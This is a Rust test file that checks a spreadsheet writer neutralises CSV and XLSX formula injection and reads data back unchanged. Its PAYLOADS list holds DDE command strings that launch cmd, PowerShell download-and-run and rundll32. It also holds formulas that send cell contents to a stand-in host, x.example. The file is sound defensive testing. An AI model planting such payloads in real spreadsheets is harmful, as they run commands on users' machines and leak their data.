//! What is written reads back the same, and runs nowhere (R11).

use crate::kit::{read, said};
use fangxian_sheets::{
    Cell, OutCell, OutSheet, OutText, Watermark, write_csv, write_xlsx, write_xlsx_marked,
};
use jiff::civil::Date;
use proptest::prelude::*;
use std::io::Read;

/// What has been used to run something from a cell, or could be.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example/\"&B2)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)*cmd|'/C calc'!A0",
    "=2+5+cmd|'/C powershell IEX(wget x.example/a)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    "==1",
    "=",
    "+1+1",
    "+86 138 0000 0000",
    "+cmd|' /C calc'!A0",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u{3000}=1+1",
    "\u{A0}=1+1",
    "\u{FEFF}=1+1",
    "\u{200B}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\"",
    "x\",=1+1,\"",
    "李四\r\n=1+1",
];

fn sheet(titles: &[&str], rows: Vec<Vec<OutCell>>) -> OutSheet {
    let titles = titles.iter().map(|title| (*title).to_owned()).collect();
    OutSheet { name: "名单".to_owned(), titles, rows }
}

fn plain(text: &str) -> String {
    let is_control = |c: &char| {
        (*c < ' ' && !"\t\r\n".contains(*c)) || matches!(c, '\u{7F}' | '\u{FFFE}' | '\u{FFFF}')
    };
    text.chars().filter(|c| !is_control(c)).collect()
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// A reader of RFC 4180 that knows nothing of ours: the fields as a program gets them.
fn fields_as_programs_get_them(csv: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut chars = csv.trim_start_matches('\u{FEFF}').chars().peekable();
    while let Some(letter) = chars.next() {
        match letter {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                fields.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' | '\r' | ';' | '\t' if !quoted => fields.push(String::new()),
            _ => fields.last_mut().unwrap().push(letter),
        }
    }
    fields
}

#[test]
fn no_payload_is_a_formula_in_any_field() {
    let n_columns = 6;
    let rows: Vec<Vec<OutCell>> = PAYLOADS
        .iter()
        .flat_map(|payload| {
            (0..n_columns).map(move |at| {
                let mut row = vec![OutCell::text("张三"); n_columns];
                let cell = OutCell::text(*payload);
                row[at] = if at % 2 == 0 { cell } else { cell.marked() };
                row
            })
        })
        .collect();
    for titles in [&["=1", "@a", "+b", "-c", "\td", "e"][..], &PAYLOADS[..6]] {
        let sheet = sheet(titles, rows.clone());
        let xlsx = write_xlsx(std::slice::from_ref(&sheet)).unwrap();
        let page = part(&xlsx, "xl/worksheets/sheet1.xml");
        assert!(!page.contains("<f"), "a formula");
        assert!(!page.contains("hyperlink"), "a link");
        // Every cell is a shared string; and those that could run have the quote.
        assert_eq!(page.matches("<c ").count(), page.matches(" t=\"s\"").count());
        assert!(part(&xlsx, "xl/styles.xml").contains("quotePrefix=\"1\""));

        let csv = String::from_utf8(write_csv(&sheet)).unwrap();
        for field in fields_as_programs_get_them(&csv) {
            let first = field.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{200B}');
            let first = first.trim_start_matches('\u{FEFF}');
            assert!(!first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{field:?}");
            assert!(!field.starts_with(['\t', '\r', '\n', '\0']), "{field:?}");
        }
        for bytes in [xlsx, csv.into_bytes()] {
            let (back, _) = read(bytes).unwrap();
            assert_eq!(back.len(), rows.len() + 1);
            for (row, read) in rows.iter().zip(&back[1..]) {
                for (cell, read) in row.iter().zip(&read.cells) {
                    assert_eq!(said(read), said_out(cell));
                }
            }
        }
    }
}

#[test]
fn a_cell_that_could_run_has_the_quote() {
    let row = vec![OutCell::text("=1"), OutCell::text("a"), OutCell::text("@b").marked()];
    let bytes = write_xlsx(&[sheet(&["t"], vec![row])]).unwrap();
    let styles = part(&bytes, "xl/styles.xml");
    let styles = styles.split("<cellXfs").nth(1).unwrap().split("</cellXfs>").next().unwrap();
    let styles: Vec<&str> = styles.split("<xf ").skip(1).collect();
    let page = part(&bytes, "xl/worksheets/sheet1.xml");
    let quoted = |cell: &str| {
        let tag = page.split(&format!("r=\"{cell}\" s=\"")).nth(1).unwrap();
        let style: usize = tag.split('"').next().unwrap().parse().unwrap();
        styles[style].contains("quotePrefix=\"1\"")
    };
    assert_eq!(
        (quoted("A2"), quoted("B2"), quoted("C2"), quoted("A1")),
        (true, false, true, false)
    );
}

/// What [`said`] says of the same cell once read.
#[test]
fn a_marked_copy_says_whose_it_is_and_runs_no_more_than_another() {
    for payload in PAYLOADS {
        let line = format!("{payload} &A&F 某人 副本 K7M2");
        let watermark = Watermark { line: line.clone(), mark: "K7M2".to_owned() };
        let rows = vec![vec![OutCell::text(payload)]];
        let bytes = write_xlsx_marked(&[sheet(&["姓名"], rows.clone())], &watermark).unwrap();
        let page = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!page.contains("<f>") && !page.contains("<f "), "a formula: {payload:?}");
        // A sign of a command of Excel in a header is not one.
        assert!(page.contains("<oddHeader>") && !page.contains("&amp;A"), "{page}");
        assert!(page.contains("副本 K7M2"), "{page}");
        assert!(part(&bytes, "docProps/core.xml").contains("<cp:keywords>K7M2</cp:keywords>"));
        // What stands in the cells is the same as without a mark.
        let (marked, _) = read(bytes).unwrap();
        let (bare, _) = read(write_xlsx(&[sheet(&["姓名"], rows)]).unwrap()).unwrap();
        assert_eq!(marked, bare, "{payload:?}");
    }
}

fn said_out(cell: &OutCell) -> String {
    match &cell.text {
        OutText::Empty => "·".to_owned(),
        OutText::Text(text) => match plain(text) {
            text if text.is_empty() => "·".to_owned(),
            text => text,
        },
        OutText::Count(count) => format!("{count}"),
        OutText::Day(day) => format!("d{day}"),
    }
}

fn some_text() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => any::<String>(),
        2 => r#"[=+@'\t\r\n ,;"_x0-9A-F\-]{0,12}"#,
        1 => "[0-9]{17}[0-9X]",
        1 => "0[0-9]{0,14}",
        1 => Just("𠮷野家".to_owned()),
        1 => Just("㐂𪚥䶮〇".to_owned()),
        1 => Just("阿卜杜热西提·麦麦提吐尔逊·阿卜杜克热木".to_owned()),
        1 => Just("_x000D_".to_owned()),
        1 => Just("葛\u{E0100}".to_owned()),
        1 => proptest::sample::select(PAYLOADS.to_vec()).prop_map(str::to_owned),
    ]
}

fn some_cell() -> impl Strategy<Value = OutCell> {
    let day = (0_i32..70_000).prop_map(|days| {
        let days = jiff::Span::new().days(days);
        OutCell::day(Date::constant(1900, 3, 1).checked_add(days).unwrap())
    });
    let cell = prop_oneof![
        6 => some_text().prop_map(OutCell::text),
        1 => any::<i64>().prop_map(OutCell::count),
        1 => (-1000_i64..1000).prop_map(OutCell::count),
        1 => day,
        1 => Just(OutCell::empty()),
    ];
    (cell, any::<bool>()).prop_map(|(cell, marked)| if marked { cell.marked() } else { cell })
}

/// The cell as text, without saying what kind of cell it is: CSV has but one.
fn as_text(cell: &Cell) -> String {
    match cell {
        Cell::Number { value, .. } => format!("{value:.0}"),
        Cell::Day(day) => format!("d{day}"),
        Cell::Empty | Cell::Text(_) | Cell::Flag(_) | Cell::Fault(_) => said(cell),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn what_is_written_reads_back_the_same(
        rows in proptest::collection::vec(proptest::collection::vec(some_cell(), 0..6), 0..8)
    ) {
        let sheet = sheet(&["姓名", "证件号", "备注"], rows);
        let xlsx = write_xlsx(std::slice::from_ref(&sheet)).unwrap();
        for (kind, bytes) in [("xlsx", xlsx), ("csv", write_csv(&sheet))] {
            let (back, _) = read(bytes).unwrap();
            for (at, row) in sheet.rows.iter().enumerate() {
                let read = back.iter().find(|read| read.number as usize == at + 2);
                let read = read.map(|read| read.cells.as_slice()).unwrap_or_default();
                prop_assert!(read.len() <= row.len());
                for (column, cell) in row.iter().enumerate() {
                    let found = read.get(column).map_or("·".to_owned(), as_text);
                    let mut expected = said_out(cell);
                    if kind == "csv" && matches!(cell.text, OutText::Day(_)) {
                        expected = expected.trim_start_matches('d').to_owned();
                    }
                    prop_assert_eq!(found, expected, "{} row {} column {}", kind, at, column);
                }
            }
        }
    }
}

#[test]
fn what_excel_could_not_hold_is_refused() {
    let long = sheet(&["a"], vec![vec![OutCell::text("中".repeat(32_768))]]);
    assert_eq!(write_xlsx(&[long]).unwrap_err().code(), "sheet_out_long_text");
    let fits = sheet(&["a"], vec![vec![OutCell::text("中".repeat(32_767))]]);
    let (rows, _) = read(write_xlsx(&[fits]).unwrap()).unwrap();
    assert_eq!(said(&rows[1].cells[0]).chars().count(), 32_767);
    let name = |name: &str| OutSheet { name: name.to_owned(), ..sheet(&["a"], Vec::new()) };
    for wrong in ["", "a/b", "太长".repeat(16).as_str()] {
        assert_eq!(write_xlsx(&[name(wrong)]).unwrap_err().code(), "sheet_out_name", "{wrong}");
    }
    assert!(write_xlsx(&[name("a"), name("a")]).is_err());
}
